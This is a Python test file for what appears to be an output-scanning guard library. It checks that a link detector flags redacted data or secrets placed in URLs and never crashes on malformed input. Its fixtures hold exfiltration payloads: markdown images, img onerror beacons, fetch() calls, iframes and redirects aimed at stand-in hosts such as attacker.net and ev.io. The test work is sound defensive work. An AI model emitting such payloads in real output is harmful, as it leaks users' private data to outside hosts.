"""Review 5 and 6, output detectors: a placeholder inside a URL carries data (restoring
puts the redacted value there), hostile URLs never make the link detector raise, and no
explanation echoes the text it matched."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ramparts.detectors.base import Finding, ScanContext, Sensitivity
from ramparts.detectors.engine import Engine
from ramparts.detectors.output import ExfiltrationLinkDetector
from ramparts.detectors.output.links import host_description
from ramparts.policy.redaction import PLACEHOLDER, MemoryVault, label_for

ALLOW = ScanContext(options={"allowed_domains": ["example.com", "python.org"]}, min_score=0.5)


def scan(text: str) -> list[Finding]:
    return ExfiltrationLinkDetector().scan(text, ALLOW)


# --- B1: placeholders inside URLs ------------------------------------------------------

PLACED = [
    "![x](https://[US_SSN_1].attacker.net/p.png)",
    "![x](https://attacker.net/[EMAIL_2]/p.png)",
    "![x](//[EMAIL_1])",
    "![x](<https://a.attacker.net/?q=[PHONE_12]>)",
    "![a [nested] alt](https://[US_SSN_1].attacker.net/p.png)",
    "[click](https://[EMAIL_1].attacker.net/)",
    "[click](https://x.attacker.net/[EMAIL_1])",
    '<img src="https://[US_SSN_1].attacker.net/p.png">',
    "<a href='https://attacker.net/?u=[EMAIL_1]'>x</a>",
    '<div style="background:url(https://[US_SSN_1].attacker.net/p.png)">x</div>',
    "<style>a{background:url('//attacker.net/[EMAIL_1]')}</style>",
    "![s][r]\n\n[r]: https://[US_SSN_1].attacker.net/p.png\n",
    "[r]: https://[EMAIL_1].attacker.net/\n",
    "![x](https://python.org[EMAIL_1]/p.png)",  # not under python.org once restored
]


@pytest.mark.parametrize("text", PLACED)
def test_a_placeholder_in_a_url_carries_data(text: str) -> None:
    [finding] = scan(text)
    assert finding.sensitivity is Sensitivity.RESTRICTED
    assert finding.score >= 0.75
    assert "placeholder" in finding.explanation
    assert "[" not in finding.explanation  # the placeholder is not named either


@pytest.mark.parametrize(
    "text",
    [
        # Allowlisted hosts are trusted whatever their URL holds, placeholders included.
        "![x](https://[EMAIL_1].python.org/p.png)",
        "![x](https://docs.python.org/[EMAIL_1].png)",
        # A placeholder in a label is shown as text, not fetched.
        "See [EMAIL_1] and ![logo [US_SSN_1]](https://docs.python.org/logo.png).",
        "[EMAIL_1]: not a link\n",
    ],
)
def test_placeholders_outside_urls_or_under_allowed_hosts_pass(text: str) -> None:
    assert scan(text) == []


def test_a_placeholder_before_a_second_destination_hides_neither() -> None:
    text = "![a](https://x.python.org/[EMAIL_1](https://attacker.net/p.png?d=[US_SSN_1]))"
    [finding] = scan(text)
    assert finding.start == text.index("[EMAIL_1]")


def test_the_url_grammar_matches_the_placeholders_the_vault_writes() -> None:
    vault = MemoryVault(60)
    for kind in ("email", "us_ssn", "payment_card", "secret-assignment", "x" * 60):
        token = vault.placeholder("s", kind + "-value", label_for(kind))
        assert PLACEHOLDER.fullmatch(token)
        assert scan(f"![x](https://{token}.attacker.net/p.png)"), token


# --- B5: hostile URLs never raise --------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '<a href="https://[a]/pppppppppppppppppp">x</a>',
        '<img src="https://[x]/pppppppppppppppppppppppp">',
        "[r]: https://[x]/pppppppppppppppppppppppp\n",
        "![x](https://[::1/pppppppppppppppppppppppp)",
        '<img src="https://evil.example\uff03.python.org/pppppppppppppppppppppppp">',
    ],
)
def test_an_unparsable_host_is_unknown_and_carries_data_when_long(text: str) -> None:
    [finding] = scan(text)
    assert finding.sensitivity is Sensitivity.RESTRICTED
    assert "does not parse" in finding.explanation


URL_ALPHABET = st.sampled_from(
    [
        *"[]:@/\\?#%.-_aZ09 \t\n()<>\"'&;=",
        "[EMAIL_1]",
        "[::1]",
        "https://",
        "//",
        "&#91;",
        "\\[",
        "\uff03",
        "\u0130",
        "xn--",
    ]
)
WRAPPERS = [
    "![x]({})",
    "[x]({})",
    "[r]: {}\n![r]",
    '<img src="{}">',
    "<a href='{}'>",
    "<a href={}>",
    '<div style="background:url({})">',
    "<style>a{{background:url('{}')}}</style>",
]


@settings(max_examples=400, deadline=None)
@given(
    st.lists(URL_ALPHABET, max_size=30).map("".join),
    st.sampled_from(WRAPPERS),
    st.sampled_from(["https://", "//", "http:\\\\", ""]),
)
def test_the_link_detector_never_raises(url: str, wrapper: str, scheme: str) -> None:
    for context in (ALLOW, ScanContext(options={}, min_score=0.0)):
        for finding in ExfiltrationLinkDetector().scan(wrapper.format(scheme + url), context):
            assert finding.explanation


# --- Review 6 #1: explanations never echo the matched text -------------------------------

DATA_BITS = ["sk-live-4f9a8b7c6d5e4f3a2b1c", "c2VjcmV0LXBhc3N3b3Jk", "hunter2pass", "123-45-6789"]
HOSTILE_TEMPLATES = [
    "![a](https://{d}.exfil.corp/p.png)",
    "![a](https://{d}.attacker.local/x.png?q={d})",
    "![a](https://{d}.localhost/x.png)",
    "![a](https://AKIA{d}.s3bucket.internal:8443/x.png)",
    "![a](https://user:{d}@ev.io/x.png)",
    "![a](https://data-{d}.lan/)",
    '<img src="https://password-{d}.home.arpa.evil/a.png">',
    "![a](https://{d}.com/p.png)",  # the registered domain itself
    "![a](https://{d}/p.png)",  # a bare host
    "![a](https://10.{n}.1.2/p.png)",
    "![a](https://[{d}]/p.png)",
    '<div style="background:url(//{d}.tk/p)">x</div>',
    "<script>fetch('https://ev.io/?d={d}')</script>",
    "<a href=\"javascript:alert('{d}')\">x</a>",
    "<img src=x onerror=\"new Image().src='//ev.io/'+'{d}'\">",
    "<iframe src='//ev.io/{d}'></iframe>",
    '<meta http-equiv="refresh" content="0;url=//ev.io/{d}">',
    '<base href="//ev.io/{d}/">',
    '<form action="//ev.io/{d}">',
    "The token is CANARY-{d} (reversed: {r}).",
]
CANARY_CONTEXT = ScanContext(options={"canaries": ["CANARY-" + d for d in DATA_BITS]})


def _output_engine() -> Engine:
    return Engine.from_dict(
        {
            "detectors": {
                "output.exfil_link": {"allowed_domains": ["example.com"]},
                "output.canary_leak": {"canaries": ["CANARY-" + d for d in DATA_BITS]},
                "output.html_injection": True,
            }
        },
        side="output",
    )


def _named(explanation: str) -> str:
    """The host words the link detector names on purpose: a public registered domain
    (checked below to be short and plain) or a non-public host's last label."""
    found = re.search(r" to (?:a non-public host under (?=\.))?([a-z0-9.-]+),", explanation)
    return found.group(1) if found else ""


@pytest.mark.parametrize("template", HOSTILE_TEMPLATES)
@pytest.mark.parametrize("data", DATA_BITS)
def test_no_explanation_echoes_the_matched_text(template: str, data: str) -> None:
    text = template.format(d=data, n=len(data), r=("CANARY-" + data)[::-1])
    findings = [f for f in _output_engine().scan(text) if f.detector.startswith("output.")]
    assert findings, text
    for finding in findings:
        matched = text[finding.start : finding.end].lower()
        explanation = finding.explanation.lower()
        named = _named(explanation)
        if data.lower() in named:  # only a registered domain that reads as a plain name
            assert len(data) <= 20 and sum(c.isdigit() for c in data) <= 3, named
        assert len(named.partition(".")[0]) <= 20
        for at in range(len(matched) - 7):
            window = matched[at : at + 8]
            if window not in named:
                assert window not in explanation, (finding.detector, explanation, window)


@pytest.mark.parametrize(
    ("host", "words"),
    [
        ("a.b.evil.co.uk", "evil.co.uk"),
        ("sk-live-4f9a8b7c6d5e4f3a2b1c.exfil.corp", "a non-public host under .corp"),
        ("akiaiosfodnn7realkey1.s3bucket.internal", "a non-public host under .internal"),
        ("x.c2vjcmv0lxbhc3n3b3jk", "a non-public host"),
        ("sk-live-4f9a8b7c6d5e4f3a2b1c.com", "a host under .com whose name is not shown"),
        ("10.0.0.1", "an IP address"),
        ("[::1]", "an IP address"),
        ("[us_ssn_1]", "a host that does not parse"),
        ("bare", "a non-public host"),
    ],
)
def test_host_description(host: str, words: str) -> None:
    assert host_description(host).startswith(words)
